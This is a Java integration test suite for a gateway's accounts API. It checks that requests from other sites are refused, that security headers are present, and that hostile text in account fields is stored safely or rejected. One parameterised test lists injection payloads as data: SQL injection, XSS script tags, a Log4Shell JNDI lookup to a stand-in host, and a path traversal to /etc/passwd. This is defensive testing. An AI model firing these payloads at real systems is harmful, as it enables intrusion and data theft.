package io.lynceus.gateway.accounts.rest;

import static io.restassured.RestAssured.given;
import static org.hamcrest.Matchers.containsString;
import static org.hamcrest.Matchers.is;
import static org.hamcrest.Matchers.nullValue;
import static org.junit.jupiter.api.Assertions.assertFalse;

import io.lynceus.contracts.Wire;
import io.lynceus.gateway.accounts.Accounts;
import io.lynceus.gateway.accounts.Role;
import io.lynceus.gateway.peers.PeersResource;
import io.lynceus.testing.EngineResource;
import io.quarkus.test.common.QuarkusTestResource;
import io.quarkus.test.common.http.TestHTTPResource;
import io.quarkus.test.junit.QuarkusTest;
import jakarta.inject.Inject;
import java.net.URI;
import java.net.URLEncoder;
import java.nio.charset.StandardCharsets;
import java.util.Map;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.params.provider.ValueSource;

/// What other sites can have a browser do, and what people can write into the fields of an account.
@QuarkusTest
@QuarkusTestResource(EngineResource.class)
@QuarkusTestResource(PeersResource.class)
class ForeignPagesIT {
    private static final String CHANGE = "/api/v1/labels/recompute";

    @TestHTTPResource("/")
    URI suite;

    @Inject
    Accounts accounts;

    private String operator() {
        return People.signUp(People.freshName(), Role.OPERATOR, accounts);
    }

    @ParameterizedTest
    @CsvSource({
        "Sec-Fetch-Site, cross-site",
        "Sec-Fetch-Site, same-site",
        "Origin, https://elsewhere.example",
        "Origin, http://localhost:1",
        "Origin, null",
        "Origin, not an origin"
    })
    void formOfAnotherSiteIsRefusedThoughTheCookieIsThere(String header, String value) {
        People.stranger()
                .cookie(People.COOKIE, operator())
                .header(header, value)
                .contentType("application/x-www-form-urlencoded")
                .post(CHANGE)
                .then()
                .statusCode(403)
                .body("detail", containsString("a page of another site"));
    }

    @Test
    void cookieWithoutAProofOfOriginChangesNothing() {
        People.stranger().cookie(People.COOKIE, operator()).post(CHANGE).then().statusCode(403);
    }

    @Test
    void pageOfTheSuiteChangesWhatItMay() {
        People.browser(operator()).post(CHANGE).then().statusCode(202);
        People.stranger()
                .cookie(People.COOKIE, operator())
                .header("Origin", "http://" + suite.getAuthority())
                .post(CHANGE)
                .then()
                .statusCode(202);
    }

    @Test
    void otherSiteLogsNobodyIn() {
        String name = People.freshName();
        People.signUp(name);
        People.stranger()
                .header("Origin", "https://elsewhere.example")
                .body(Wire.write(Map.of("name", name, "password", People.PASSWORD)))
                .post("/api/v1/account/sessions")
                .then()
                .statusCode(403)
                .header("Set-Cookie", nullValue());
    }

    @Test
    void otherSiteChangesNothingAtThisMachineEither() {
        given().header("Sec-Fetch-Site", "cross-site").post(CHANGE).then().statusCode(403);
        given().header("Origin", "https://elsewhere.example")
                .post(CHANGE)
                .then()
                .statusCode(403);
        given().post(CHANGE).then().statusCode(202);
    }

    @Test
    void otherSiteReadsNothingThatAnAnswerAllowsIt() {
        People.browser(operator())
                .header("Origin", "https://elsewhere.example")
                .get("/api/v1/account")
                .then()
                .header("Access-Control-Allow-Origin", nullValue())
                .header("Cross-Origin-Resource-Policy", is("same-origin"));
    }

    @ParameterizedTest
    @ValueSource(strings = {"/", "/label", "/api/v1/models", "/api/v1/nowhere", "/q/openapi"})
    void everyAnswerTellsBrowsersWhatTheyMayDoWithIt(String path) {
        given().get(path)
                .then()
                .header("X-Content-Type-Options", is("nosniff"))
                .header("Content-Security-Policy", containsString("frame-ancestors 'none'"))
                .header("Referrer-Policy", is("strict-origin-when-cross-origin"))
                .header("Strict-Transport-Security", nullValue());
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "'; DROP TABLE accounts; --",
                "x' OR '1'='1",
                "<script>alert(1)</script>",
                "\"><img src=x onerror=alert(1)>",
                "${jndi:ldap://elsewhere.example/a}",
                "nul\0inside",
                "../../../etc/passwd"
            })
    void textOfAnyKindIsKeptAsItIsOrRefused(String text) {
        byte[] credentials = Wire.write(Map.of("name", text, "password", People.PASSWORD));
        People.stranger().body(credentials).post("/api/v1/account").then().statusCode(422);
        People.stranger()
                .body(credentials)
                .post("/api/v1/account/sessions")
                .then()
                .statusCode(401);
        String name = People.freshName();
        String password = text + " and four more words";
        People.stranger()
                .body(Wire.write(Map.of("name", name, "password", password)))
                .post("/api/v1/account")
                .then()
                .statusCode(201);
        People.logIn(name, password).then().statusCode(200);
        People.logIn(name, text + "' OR '1'='1").then().statusCode(401);
        People.stranger()
                .body(Wire.write(Map.of("name", People.freshName(), "password", password, "code", text)))
                .post("/api/v1/account")
                .then()
                .statusCode(422);
        String operator = operator();
        String stored = text.replace('\0', '\uFFFD');
        People.browser(operator)
                .body(Wire.write(Map.of("name", text, "scopes", new String[] {"read"}, "days", 1)))
                .post("/api/v1/account/tokens")
                .then()
                .statusCode(201)
                .contentType("application/json")
                .body("name", is(stored));
        People.browser(operator)
                .queryParam("cursor", text)
                .get("/api/v1/accounts")
                .then()
                .statusCode(200);
        People.browser(operator)
                .body(Wire.write(Map.of("role", text)))
                .put("/api/v1/accounts/" + name + "/role")
                .then()
                .statusCode(422);
        People.browser(operator)
                .body("{\"role\": \"volunteer\"}")
                .urlEncodingEnabled(false)
                .put("/api/v1/accounts/" + encoded(text) + "/role")
                .then()
                .statusCode(404);
    }

    private static String encoded(String text) {
        return URLEncoder.encode(text, StandardCharsets.UTF_8).replace("+", "%20");
    }

    @Test
    void passwordIsInNoAnswer() {
        String wrong = People.stranger()
                .body("{\"name\": \"ada\", \"password\": 12345678901}")
                .post("/api/v1/account/sessions")
                .asString();
        assertFalse(wrong.contains("12345678901"), wrong);
    }
}
